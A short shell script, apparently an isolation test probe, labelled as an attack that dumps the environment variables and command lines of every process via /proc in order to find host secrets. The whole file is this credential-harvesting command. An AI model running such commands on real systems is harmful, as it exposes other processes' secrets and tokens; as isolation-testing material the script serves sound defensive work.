#!/bin/sh
# attack: find secrets of the host in the environment of other processes
# success: a variable of the host is printed
cat /proc/self/environ /proc/1/environ /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'
cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'
echo
echo TRIED
